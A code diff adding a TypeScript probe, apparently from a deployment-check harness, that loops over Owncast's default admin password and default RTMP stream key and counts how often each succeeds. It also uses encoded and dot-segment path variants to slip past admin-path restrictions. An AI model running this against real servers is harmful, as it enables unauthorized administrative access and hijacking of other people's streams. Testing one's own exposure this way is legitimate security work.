@@ -1,0 +1,79 @@
+// A program of its own, in a node's network or outside it: tries Owncast's public password and stream key, again and again,
+// until whoever started it lets go of it or asks what came of it.
+import { request as plainRequest } from "node:http";
+import { request as tlsRequest } from "node:https";
+import { setTimeout as sleep } from "node:timers/promises";
+import { openIngest } from "../../../cli/media/rtmp-publish.ts";
+import { parseRtmpUrl } from "../../../cli/media/rtmp-target.ts";
+import type { Attack, AttackTarget } from "./attack.ts";
+
+const target = JSON.parse(process.argv[2] ?? "") as AttackTarget;
+const spelt = [
+  "/api/admin/serverconfig",
+  "//api/admin/serverconfig",
+  "/api/%61dmin/serverconfig",
+  "/x/../api/admin/status",
+];
+const pauseMs = 250;
+const admin = { won: 0, answered: 0 };
+const ingest = { won: 0, answered: 0 };
+
+process.once("message", () => process.send?.({ admin, ingest } satisfies Attack, () => process.exit(0)));
+process.once("disconnect", () => process.exit(0));
+await Promise.all([...target.web.map(attackAdmin), ...target.rtmp.map(attackIngest)]);
+
+async function attackAdmin(url: string): Promise<never> {
+  for (;;)
+    for (const path of spelt) {
+      const status = await ask(url, path);
+      if (status !== undefined) admin.answered += 1;
+      if (status === 200) admin.won += 1;
+      await sleep(pauseMs);
+    }
+}
+
+/** The status of the answer; undefined when there was none. */
+async function ask(url: string, path: string): Promise<number | undefined> {
+  const { protocol, hostname, port } = new URL(url);
+  const https = protocol === "https:";
+  const options = {
+    host: https ? target.address : hostname,
+    port: port || (https ? 443 : 80),
+    path,
+    auth: "admin:abc123",
+    headers: { host: hostname },
+    timeout: 5000,
+  };
+  return new Promise((resolve) => {
+    const sent = https
+      ? tlsRequest({ ...options, servername: hostname, rejectUnauthorized: false })
+      : plainRequest(options);
+    sent.once("response", (answer) => {
+      answer.resume();
+      resolve(answer.statusCode);
+    });
+    sent.once("timeout", () => sent.destroy());
+    sent.once("error", () => resolve(undefined));
+    sent.once("close", () => resolve(undefined));
+    sent.end();
+  });
+}
+
+async function attackIngest(url: string): Promise<never> {
+  for (;;) {
+    const never = new AbortController().signal;
+    await openIngest({ target: parseRtmpUrl(url), streamKey: "abc123", timeoutSeconds: 5, signal: never }).then(
+      async (taken) => {
+        ingest.won += 1;
+        ingest.answered += 1;
+        taken.lost.catch(() => {});
+        await taken.end();
+      },
+      ({ exitCode }: { exitCode?: number }) => {
+        // 77: it was reached, and said no.
+        if (exitCode === 77) ingest.answered += 1;
+      },
+    );
+    await sleep(pauseMs);
+  }
+}
